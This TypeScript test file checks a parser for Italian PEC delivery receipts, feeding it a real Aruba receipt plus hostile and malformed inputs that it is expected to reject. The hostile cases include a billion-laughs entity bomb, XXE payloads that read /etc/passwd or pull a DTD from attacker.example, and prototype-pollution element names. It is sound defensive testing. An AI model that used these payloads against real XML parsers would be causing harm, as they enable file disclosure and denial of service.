// Reader tests: a real provider document, tolerance where XML allows variation (whitespace,
// defaults, references, CDATA), and refusal of hostile or invalid input with stable codes.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { RecapitoError } from '../errors.ts';
import { DATICERT_ERRORS } from './errors.ts';
import { readDaticert } from './read.ts';

// A real delivery receipt issued by Aruba on 13/11/2018, structure and whitespace as
// received; the personal address is replaced by a neutral one and the client msgid, shortened
// in the published copy, is completed with a plausible value.
const ARUBA = `<?xml version="1.0" encoding="UTF-8"?>
<postacert tipo="avvenuta-consegna" errore="nessuno">
    <intestazione>
        <mittente>titolare.casella@pec.it</mittente>
        <destinatari tipo="certificato">titolare.casella@pec.it</destinatari>
        <risposte>titolare.casella@pec.it</risposte>
        <oggetto>IT03339130126_00009.xml</oggetto>
    </intestazione>
    <dati>
        <gestore-emittente>ARUBA PEC S.p.A.</gestore-emittente>
        <data zona="+0100">
            <giorno>13/11/2018</giorno>
            <ora>16:39:27</ora>
        </data>
        <identificativo>opec288.20181113163926.01838.310.1.63@pec.aruba.it</identificativo>
        <msgid>&lt;1542123565.9247.1.attachment.out@client-pc.example&gt;</msgid>
        <ricevuta tipo="completa" />
        <consegna>titolare.casella@pec.it</consegna>
    </dati>
</postacert>
`;

const ARUBA_MODEL = {
  tipo: 'avvenuta-consegna',
  errore: 'nessuno',
  mittente: 'titolare.casella@pec.it',
  destinatari: [{ address: 'titolare.casella@pec.it', tipo: 'certificato' }],
  risposte: 'titolare.casella@pec.it',
  oggetto: 'IT03339130126_00009.xml',
  gestoreEmittente: 'ARUBA PEC S.p.A.',
  data: { giorno: '13/11/2018', ora: '16:39:27', zona: '+0100' },
  identificativo: 'opec288.20181113163926.01838.310.1.63@pec.aruba.it',
  msgid: '<1542123565.9247.1.attachment.out@client-pc.example>',
  ricevuta: 'completa',
  consegna: 'titolare.casella@pec.it',
  ricezione: [],
};

test('the Aruba delivery receipt reads correctly (text, and UTF-8 bytes with a BOM)', () => {
  assert.deepEqual(readDaticert(ARUBA), ARUBA_MODEL);
  const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(ARUBA)]);
  assert.deepEqual(readDaticert(bytes), ARUBA_MODEL);
});

test('whitespace is not significant: one line, CRLF, indented values, no XML declaration', () => {
  const oneLine = ARUBA.replace(/>\s+</g, '><').replace(/^<\?xml[^>]*\?>/, '');
  assert.deepEqual(readDaticert(oneLine), ARUBA_MODEL);
  assert.deepEqual(readDaticert(ARUBA.replace(/\n/g, '\r\n')), ARUBA_MODEL);
  const loose = ARUBA.replace('<mittente>titolare.casella@pec.it</mittente>', '<mittente>\n   titolare.casella@pec.it\n</mittente>');
  assert.deepEqual(readDaticert(loose), ARUBA_MODEL);
});

test('DTD defaults apply; references, CDATA and comments are understood', () => {
  const xml = ARUBA.replace(' errore="nessuno"', '').replace(' tipo="certificato"', '')
    .replace('<oggetto>IT03339130126_00009.xml</oggetto>', '<oggetto>&#x20AC; &#8364; &quot;&apos;<![CDATA[<x>&amp;]]><!-- c --></oggetto>');
  const d = readDaticert(xml);
  assert.equal(d.errore, 'nessuno');
  assert.equal(d.destinatari[0]?.tipo, 'certificato');
  assert.equal(d.oggetto, '€ € "\'<x>&amp;');
});

function code(input: string | Uint8Array, limits?: Parameters<typeof readDaticert>[1]): { code: string; message: string; ms: number } {
  const started = performance.now();
  try {
    readDaticert(input, limits);
  } catch (err) {
    assert.ok(err instanceof RecapitoError, `RecapitoError expected, got ${String(err)}`);
    assert.ok(err.code in DATICERT_ERRORS, `documented code, got ${err.code}`);
    return { code: err.code, message: err.message, ms: performance.now() - started };
  }
  assert.fail('the input was accepted');
}

function rejects(input: string | Uint8Array, expected: string, pattern?: RegExp, limits?: Parameters<typeof readDaticert>[1]): void {
  const r = code(input, limits);
  assert.equal(r.code, expected, r.message);
  if (pattern) assert.match(r.message, pattern);
  assert.ok(r.ms < 2000, `took ${r.ms} ms`);
}

test('billion laughs: refused at the DOCTYPE, nothing expanded', () => {
  const lol = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  rejects(`<?xml version="1.0"?><!DOCTYPE postacert [${lol.join('')}]><postacert>&lol9;</postacert>`, 'DATICERT_FORBIDDEN_DTD');
});

test('external entity (XXE): refused at the DOCTYPE', () => {
  rejects('<?xml version="1.0"?><!DOCTYPE postacert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><postacert tipo="accettazione">&xxe;</postacert>', 'DATICERT_FORBIDDEN_DTD');
  rejects('<!DOCTYPE postacert [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><postacert/>', 'DATICERT_FORBIDDEN_DTD');
});

test('any DOCTYPE is refused, even the right one', () => {
  rejects(ARUBA.replace('<postacert ', '<!DOCTYPE postacert SYSTEM "daticert.dtd">\n<postacert '), 'DATICERT_FORBIDDEN_DTD', /line 2/);
  rejects(ARUBA.replace('<postacert ', '<!DOCTYPE postacert>\n<postacert '), 'DATICERT_FORBIDDEN_DTD');
  rejects(ARUBA.replace('<postacert ', '<!DOCTYPE postacert PUBLIC "-//X//Y" "http://x.example/d.dtd">\n<postacert '), 'DATICERT_FORBIDDEN_DTD');
});

test('an undeclared entity reference is malformed (no entity is ever resolved)', () => {
  rejects(ARUBA.replace('ARUBA PEC S.p.A.', '&nbsp;ARUBA'), 'DATICERT_MALFORMED', /undefined entity/);
});

test('processing instructions other than the XML declaration are refused', () => {
  rejects(ARUBA.replace('<postacert ', '<?xml-stylesheet href="x.xsl"?>\n<postacert '), 'DATICERT_FORBIDDEN_PI', /xml-stylesheet/);
  rejects(ARUBA.replace('<dati>', '<dati><?php echo 1; ?>'), 'DATICERT_FORBIDDEN_PI');
});

test('inputs over the size limit are refused before parsing (5 MB)', () => {
  const big = ARUBA.replace('IT03339130126_00009.xml', 'x'.repeat(5 * 1024 * 1024));
  rejects(big, 'DATICERT_TOO_LARGE');
  rejects(new TextEncoder().encode(big), 'DATICERT_TOO_LARGE');
  // 400 000 four-byte characters: 800 000 UTF-16 units but 1.6 MB of UTF-8.
  rejects(ARUBA.replace('IT03339130126_00009.xml', '😀'.repeat(400_000)), 'DATICERT_TOO_LARGE');
  rejects(ARUBA, 'DATICERT_TOO_LARGE', undefined, { maxBytes: 100 });
});

test('100 000-deep nesting stops at the first element the DTD does not allow', () => {
  const deep = `<postacert tipo="accettazione"><intestazione>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</intestazione></postacert>`;
  rejects(deep, 'DATICERT_INVALID', /unknown element <a> in <intestazione>/);
  rejects(`<postacert tipo="accettazione">${'<dati>'.repeat(100_000)}`, 'DATICERT_INVALID', /found <dati> where <intestazione> is required/);
});

test('depth and element-count limits hold on their own', () => {
  rejects(ARUBA, 'DATICERT_TOO_DEEP', /deeper than 3/, { maxDepth: 3 });
  const many = ARUBA.replace('<destinatari tipo="certificato">titolare.casella@pec.it</destinatari>',
    '<destinatari>r@p.it</destinatari>'.repeat(20_000));
  rejects(many, 'DATICERT_TOO_MANY_ELEMENTS');
});

test('unknown elements and attributes are refused', () => {
  rejects(ARUBA.replace('<consegna>', '<firma>x</firma><consegna>'), 'DATICERT_INVALID', /unknown element <firma> in <dati>/);
  rejects(ARUBA.replace('<ricevuta tipo="completa" />', '<ricevuta tipo="completa" hash="x" />'), 'DATICERT_INVALID', /unknown attribute hash on <ricevuta>/);
  rejects(ARUBA.replace('<postacert ', '<postacert xmlns="urn:x" '), 'DATICERT_INVALID', /unknown attribute xmlns/);
  rejects(ARUBA.replace(/postacert/g, 'constructor'), 'DATICERT_INVALID', /document element/);
  rejects(ARUBA.replace('<consegna>', '<__proto__/><consegna>'), 'DATICERT_INVALID', /unknown element <__proto__>/);
});

test('the content model and order of the DTD are enforced', () => {
  const swapped = ARUBA.replace(/(<ricevuta [^>]*\/>)(\s*)(<consegna>[^<]*<\/consegna>)/, '$3$2$1');
  rejects(swapped, 'DATICERT_INVALID', /<ricevuta> is not allowed here in <dati>/);
  rejects(ARUBA.replace(/<mittente>.*<\/mittente>/, ''), 'DATICERT_INVALID', /found <destinatari> where <mittente> is required/);
  rejects(ARUBA.replace(/<identificativo>.*<\/identificativo>/, ''), 'DATICERT_INVALID', /<identificativo> is required/);
  rejects(ARUBA.replace(/<ora>.*<\/ora>/, ''), 'DATICERT_INVALID', /<data> lacks <ora>/);
  rejects(ARUBA.replace(/<destinatari .*<\/destinatari>/, ''), 'DATICERT_INVALID', /<destinatari> is required/);
  rejects(ARUBA.replace('<consegna>', '<consegna>a@b.it</consegna><consegna>'), 'DATICERT_INVALID', /more than one <consegna>/);
  rejects(ARUBA.replace('<mittente>titolare.casella@pec.it', '<mittente>l.<oggetto>x</oggetto>'), 'DATICERT_INVALID', /<mittente> cannot contain elements/);
  rejects(ARUBA.replace('<dati>', '<dati>testo'), 'DATICERT_INVALID', /<dati> may contain only elements/);
  rejects(ARUBA.replace('<ricevuta tipo="completa" />', '<ricevuta tipo="completa">x</ricevuta>'), 'DATICERT_INVALID', /<ricevuta> is EMPTY, found text/);
  rejects(ARUBA.replace(/<\/dati>/, '</dati><dati></dati>'), 'DATICERT_INVALID', /more than one <dati>/);
});

test('enumerated attributes and required attributes are checked', () => {
  rejects(ARUBA.replace('tipo="avvenuta-consegna"', 'tipo="consegna"'), 'DATICERT_INVALID', /tipo="consegna" is not one of/);
  rejects(ARUBA.replace('errore="nessuno"', 'errore="none"'), 'DATICERT_INVALID', /errore="none"/);
  rejects(ARUBA.replace('tipo="certificato"', 'tipo="Certificato"'), 'DATICERT_INVALID', /<destinatari> tipo/);
  rejects(ARUBA.replace('tipo="completa"', 'tipo="full"'), 'DATICERT_INVALID', /<ricevuta> tipo/);
  rejects(ARUBA.replace(' zona="+0100"', ''), 'DATICERT_INVALID', /<data> lacks the required attribute zona/);
  rejects(ARUBA.replace(' tipo="avvenuta-consegna"', ''), 'DATICERT_INVALID', /<postacert> lacks the required attribute tipo/);
});

test('giorno, ora and zona formats are checked', () => {
  rejects(ARUBA.replace('13/11/2018', '2018-11-13'), 'DATICERT_BAD_TIME', /giorno/);
  rejects(ARUBA.replace('13/11/2018', '31/11/2018'), 'DATICERT_BAD_TIME', /calendar date/);
  rejects(ARUBA.replace('16:39:27', '16.39.27'), 'DATICERT_BAD_TIME', /ora/);
  rejects(ARUBA.replace('16:39:27', '16:60:00'), 'DATICERT_BAD_TIME', /ora/);
  rejects(ARUBA.replace('+0100', '+01:00'), 'DATICERT_BAD_TIME', /zona/);
  rejects(ARUBA.replace('+0100', 'CET'), 'DATICERT_BAD_TIME', /zona/);
});

test('truncated documents are malformed, whatever the cut', () => {
  for (const cut of [10, 60, 200, 400, ARUBA.indexOf('</dati>'), ARUBA.length - 3]) {
    rejects(ARUBA.slice(0, cut), 'DATICERT_MALFORMED');
  }
  rejects(ARUBA.replace('</ora>', '</giorno>'), 'DATICERT_MALFORMED', /line 13/);
  // A wrong end tag that closes an incomplete element is a syntax error, not a missing child.
  rejects(ARUBA.replace(/<ora>.*<\/ora>\s*<\/data>/, '</dati>'), 'DATICERT_MALFORMED', /unexpected close tag/);
});

test('encoding: invalid UTF-8, UTF-16, and other declared encodings are refused', () => {
  const bytes = new TextEncoder().encode(ARUBA);
  const at = ARUBA.indexOf('ARUBA PEC');
  for (const bad of [[0xc3], [0xff], [0xed, 0xa0, 0x80], [0xc0, 0xaf]]) {
    rejects(new Uint8Array([...bytes.slice(0, at), ...bad, ...bytes.slice(at)]), 'DATICERT_ENCODING', /UTF-8/);
  }
  const utf16 = new Uint8Array(2 + ARUBA.length * 2);
  utf16.set([0xff, 0xfe]);
  for (let i = 0; i < ARUBA.length; i++) utf16[2 + i * 2] = ARUBA.charCodeAt(i);
  rejects(utf16, 'DATICERT_ENCODING');
  rejects(ARUBA.replace('UTF-8', 'ISO-8859-1'), 'DATICERT_ENCODING', /ISO-8859-1/);
  rejects(ARUBA.replace('version="1.0"', 'version="1.1"'), 'DATICERT_ENCODING', /1\.1/);
});

test('characters XML 1.0 forbids are malformed, in text and as references', () => {
  rejects(ARUBA.replace('ARUBA PEC', 'ARUBA\u0001PEC'), 'DATICERT_MALFORMED');
  rejects(ARUBA.replace('ARUBA PEC', 'ARUBA&#1;PEC'), 'DATICERT_MALFORMED');
  rejects(ARUBA.replace('ARUBA PEC', 'ARUBA&#xFFFF;PEC'), 'DATICERT_MALFORMED');
});

test('empty input is refused as such', () => {
  rejects('', 'DATICERT_EMPTY');
  rejects(new Uint8Array(0), 'DATICERT_EMPTY');
  rejects(' \r\n\t', 'DATICERT_EMPTY');
  rejects(new Uint8Array([0xef, 0xbb, 0xbf]), 'DATICERT_EMPTY');
});

test('garbage and non-XML inputs never crash: always a documented code', () => {
  const samples = ['<', '<<<<', '&', 'hello', '<postacert', '<?xml', '<!-- x', '<![CDATA[', ARUBA + '<x/>', ARUBA + 'tail'];
  for (const s of samples) {
    const r = code(s);
    assert.ok(r.code === 'DATICERT_MALFORMED' || r.code === 'DATICERT_INVALID', `${JSON.stringify(s.slice(0, 20))}: ${r.code}`);
  }
  let seed = 7;
  const rnd = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
  const src = new TextEncoder().encode(ARUBA);
  for (let n = 0; n < 300; n++) {
    const b = src.slice();
    for (let k = 0; k < 3; k++) b[Math.floor(rnd() * b.length)] = Math.floor(rnd() * 256);
    try {
      readDaticert(b);
    } catch (err) {
      assert.ok(err instanceof RecapitoError && err.code in DATICERT_ERRORS, String(err));
    }
  }
});
